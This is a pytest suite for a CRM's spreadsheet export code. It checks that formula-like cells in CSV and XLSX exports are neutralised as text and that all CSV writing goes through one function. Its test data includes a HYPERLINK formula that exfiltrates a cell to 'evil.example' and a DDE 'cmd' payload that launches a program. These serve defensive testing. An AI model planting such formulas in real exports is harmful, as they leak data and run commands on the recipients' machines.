"""CSV injection: every cell a spreadsheet would run as a formula is written as text, and the
suite writes CSV in one place only."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from crm_shared.spreadsheet_cells import encode_csv, encode_xlsx, neutralise, restore

REPO = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "+8613912345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(cell):
    (row,) = csv.reader(io.StringIO(encode_csv([[cell]]).decode(), newline=""))
    assert row == ["'" + cell]
    assert restore(row[0]) == cell


@pytest.mark.parametrize("cell", ["韩梅梅", "", "a=b", "1+1", "'quoted", "'plain", " =x"])
def test_other_cells_are_left_alone(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_the_text_mark_is_taken_off_exactly_once():
    assert restore(neutralise("'=1")) == "'=1"  # a value that itself looks marked stays itself
    assert restore(neutralise(neutralise("=1"))) == "'=1"


def test_rows_keep_their_shape():
    data = encode_csv([["display_name", "needs"], [HYPERLINK, 'say "hi", then =go']])
    assert data.endswith(b"\r\n")
    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [
        ["display_name", "needs"],
        ["'" + HYPERLINK, 'say "hi", then =go'],
    ]


def test_no_other_code_writes_csv():
    """A second writer would bypass the rule: every CSV goes through ``encode_csv``."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    roots = [REPO / "shared" / "crm_shared", REPO / "gateway" / "gateway", REPO / "console"]
    roots += sorted((REPO / "services").glob("*/*_service"))
    found = [
        str(path.relative_to(REPO))
        for root in roots
        for path in root.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["shared/crm_shared/spreadsheet_cells.py"]


def test_an_xlsx_holds_text_cells_only_and_a_control_character_does_not_break_it():
    """openpyxl would make ``=...`` a formula cell and refuse a control character (XML 1.0
    cannot hold one) for the whole workbook."""
    data = b"".join(
        encode_xlsx([["needs", "phone"], [HYPERLINK, "+86\x0113912345678"]], sheet_title="客户")
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header, row = sheet.iter_rows()
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in row] == [
        (HYPERLINK, "s", True),
        ("+8613912345678", "s", True),
    ]
    assert [cell.quotePrefix for cell in header] == [False, False]


def test_a_list_export_streams_csv_a_page_a_chunk_and_xlsx_once_with_its_row_count():
    from crm_shared.spreadsheet_cells import UTF8_BOM, encode_table

    pages = [[["a", "=1"]], [["b", "2"], ["c", "3"]]]
    csv_chunks = list(
        encode_table(["k", "v"], iter(pages), xlsx=False, sheet_title="T", for_reader=True)
    )
    assert [count for _data, count in csv_chunks] == [0, 1, 3]
    assert csv_chunks[0][0].decode().startswith(UTF8_BOM + "k,v")
    assert b"'=1" in csv_chunks[1][0]
    machine = next(encode_table(["k"], [], xlsx=False, sheet_title="T", for_reader=False))
    assert machine == (b"k\r\n", 0)
    xlsx_chunks = list(
        encode_table(["k", "v"], iter(pages), xlsx=True, sheet_title="T", for_reader=True)
    )
    assert {count for _data, count in xlsx_chunks} == {3}
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(d for d, _ in xlsx_chunks))).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["k", "v"],
        ["a", "=1"],
        ["b", "2"],
        ["c", "3"],
    ]
    assert sheet["B2"].data_type == "s"


def test_a_stored_record_becomes_text_cells_times_in_utc_and_enum_words_by_locale():
    from datetime import datetime, timedelta, timezone
    from types import SimpleNamespace

    from crm_shared.spreadsheet_cells import record_row

    shanghai = timezone(timedelta(hours=8))
    record = SimpleNamespace(
        state="in_progress", at=datetime(2026, 12, 7, 9, 30, tzinfo=shanghai), owner=None, n=3
    )
    words = {"state": {"in_progress": "处理中"}}
    columns = ["state", "at", "owner", "n"]
    assert record_row(record, columns, "zh-CN", chinese_words=words, time_columns=["at"]) == [
        "处理中",
        "2026-12-07T01:30:00Z",
        "",
        "3",
    ]
    assert record_row(record, ["state"], "en-US", chinese_words=words) == ["in_progress"]
